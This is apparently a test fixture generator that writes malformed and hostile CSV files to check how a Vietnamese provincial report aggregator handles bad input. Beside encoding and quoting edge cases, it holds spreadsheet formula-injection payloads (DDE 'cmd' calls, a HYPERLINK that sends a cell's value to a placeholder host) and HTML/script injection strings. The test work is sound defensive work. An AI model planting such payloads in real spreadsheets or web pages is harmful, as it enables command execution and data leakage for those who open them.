#!/usr/bin/env python3
"""Writes the hostile corpus: files a province's office, a broken export or an attacker could
drop in a period folder. tests/test_hostile.c drops each beside a copy of the demo data and
checks that gen names it, rejects or skips it, and leaves every other province's figures exact.

    python3 tests/hostile/make_hostile.py        (from the project root; rewrites tests/hostile/*.csv)

The files are small and deterministic; the large ones (a 200 MB quoted field, a million
columns, megabytes of random bytes, rows past the limit) and the ones a repository cannot hold
(links, FIFOs, names with control characters) are made by the test itself.
"""
import os
import random
import struct
import subprocess
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(HERE))
DEMO = os.path.join(ROOT, "input", "2024-09")
LONG_AN = os.path.join(DEMO, "bao-cao-khuyen-cong-long-an-9thang-2024.csv")  # tab, UTF-8
DONG_THAP = os.path.join(DEMO, "KC_87_202409.csv")  # ';', UTF-8
HEADER = "province,source,content,project,plan,executed,establishments,counterpart,note\r\n"

files = {}


def add(name, data):
    files[name] = data if isinstance(data, bytes) else data.encode("utf-8")


def cp1258(text):
    """Windows-1258 as Windows writes it (a vowel and a combining tone mark where the code page
    has no precomposed letter): glibc's iconv does that, Python's codec does not."""
    return subprocess.run(["iconv", "-f", "UTF-8", "-t", "CP1258"], input=text.encode("utf-8"),
                          capture_output=True, check=True).stdout


def demo(path):
    with open(path, "rb") as f:
        return f.read()


rng = random.Random(20241120)

# Binary junk: formats that get renamed .csv or mailed by mistake.
png = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
add("binary-png.csv", png + bytes(rng.randrange(256) for _ in range(2000)))
add("binary-zip-xlsx.csv", b"PK\x03\x04\x14\x00\x06\x00\x08\x00" + zlib.compress(HEADER.encode() * 40))
add("binary-elf.csv", b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + bytes(rng.randrange(256) for _ in range(3000)))
add("binary-pdf.csv", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nstream\n"
    + bytes(rng.randrange(256) for _ in range(1500)) + b"\nendstream\n%%EOF\n")

# Truncated encodings.
long_an = demo(LONG_AN)
cut = long_an.index("Cần Giuộc".encode()) + 2  # inside the 3-byte 'ầ'
add("truncated-utf8.csv", long_an[:cut])
utf16 = b"\xff\xfe" + long_an.decode("utf-8").encode("utf-16-le")
add("truncated-utf16-odd.csv", utf16[:1001])
pair = "Kế hoạch 😀".encode("utf-16-le")
add("truncated-utf16-surrogate.csv", b"\xff\xfe" + HEADER.encode("utf-16-le") + pair[:-2])
add("utf16-without-bom.csv", long_an.decode("utf-8").encode("utf-16-le"))
add("utf8-bom-then-latin1.csv", b"\xef\xbb\xbf" + "Tỉnh,Nguồn\r\nĐồng Tháp,Th\xe1p\r\n".encode("latin-1", "replace"))

# Windows-1258: read (with a warning) when clean, so this one is a second file for Đồng Tháp;
# with bytes the code page lacks, rejected.
dong_thap = demo(DONG_THAP).decode("utf-8")
add("windows-1258-dong-thap.csv", cp1258(dong_thap))
add("windows-1258-broken.csv", cp1258(dong_thap)[:400] + b"\x81\x8d\x8f\x90\x9d" + b"\r\n")
add("windows-1258-unknown-province.csv",
    cp1258(HEADER + "Hà Nội,KCĐP,01,Đào tạo nghề,100,50,1,0,\r\n"))

# Quote storms and broken quoting.
add("quote-storm.csv", '"' * 50001 + ',' + '""' * 20000 + '\r\n')
add("unclosed-quote.csv", HEADER + '80,KCQG,01,"Đào tạo nghề,100,50,1,0,\r\n' + "x," * 500)
add("quote-inside-unquoted.csv", HEADER + '80,KCQG,01,Đào "tạo" nghề,100,50,1,0,\r\n')

# Injection: formulas (for a spreadsheet that opens the data) and markup (for the briefing).
add("formula-injection.csv", HEADER + "".join(
    f'80,KCQG,01,"{t}",100,50,1,0,"{t}"\r\n' for t in
    ['=HYPERLINK(""http://x.example/?""&A1,""click"")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0", "=1+1"]) + "80,KCQG,01,Tập huấn,=1+1,=A1*2,,,\r\n")
add("markup-injection.csv", HEADER +
    '"<script>alert(1)</script>",KCQG,01,"<img src=x onerror=alert(1)>",100,50,1,0,"[x](javascript:alert(1)) | ** # `"\r\n'
    '"Long An<b>",KCQG,"01</td>","{{title}} {{{markup}}} &amp; &#x3C;",100,50,1,0,"<!-- -->"\r\n')

# NUL bytes inside text.
add("nul-bytes.csv", HEADER.encode() + b"80,KCQG,01,\"\xc4\x90\xc3\xa0o t\xe1\xba\xa1o\x00ngh\xe1\xbb\x81\",100,50,1,0,\r\n")
add("nul-after-header.csv", HEADER.encode() + b"\x00" * 64)

# Numbers past 64 bits, negative, exponent and other foreign forms, in a file for an unknown
# province so that every cell is reported.
numbers = ["99999999999999999999999999", "18446744073709551616", "9223372036854775808",
           "1000000000.001", "-5", "−5", "(5)", "1e5", "1E+03", "2.5e-3", "0x10", "NaN", "Infinity",
           "١٢٣", "１２３", "5 000", "1,234", "1.234,5", "12.5%", "$100", "100đ", "+5", " - 3", "0.0001",
           ".5", "5.", "1..2", "9" * 400]
add("numbers-hostile.csv", HEADER + "".join(
    f'99,KCQG,01,"Dòng {i}","{n}","{n}","{n}","{n}",\r\n' for i, n in enumerate(numbers)))

# A valid-looking file for a province not in the roster, at the amount limit.
add("unknown-province-max-amounts.csv", HEADER + "Hà Nội,KCQG,01,Đào tạo nghề,1000000000,1000000000,1000000000,1000000000,\r\n")

# Delimiter and header trouble.
add("no-delimiter.csv", "just one column\r\nand another line\r\n")
add("header-only.csv", HEADER)
add("empty.csv", "")
add("bom-only.csv", b"\xef\xbb\xbf")
add("duplicate-columns.csv", "province,plan,plan,source,content,project,executed\r\n80,1,2,KCQG,01,x,1\r\n")
add("control-characters.csv", HEADER + "80,KCQG,01,\"Tập\x1b[31m huấn\x07\x08\",100,50,1,0,\r\n")
add("lone-cr-lines.csv", HEADER.replace("\r\n", "\r") + "80,KCQG,01,x,1,1,,,\r" * 5)
add("bidi-and-zero-width.csv", HEADER + "8\u200b0,KCQG,01,\u202eTập huấn\u202c,100,50,1,0,\r\n")

# Many errors in one file: reported up to the cap, not one per cell of the file.
add("many-errors.csv", HEADER + "x,y,z,,a,b,c,d,\r\n" * 3000)

for old in os.listdir(HERE):
    if old.endswith(".csv"):
        os.remove(os.path.join(HERE, old))
for name, data in sorted(files.items()):
    with open(os.path.join(HERE, name), "wb") as f:
        f.write(data)
print(f"{len(files)} hostile files")
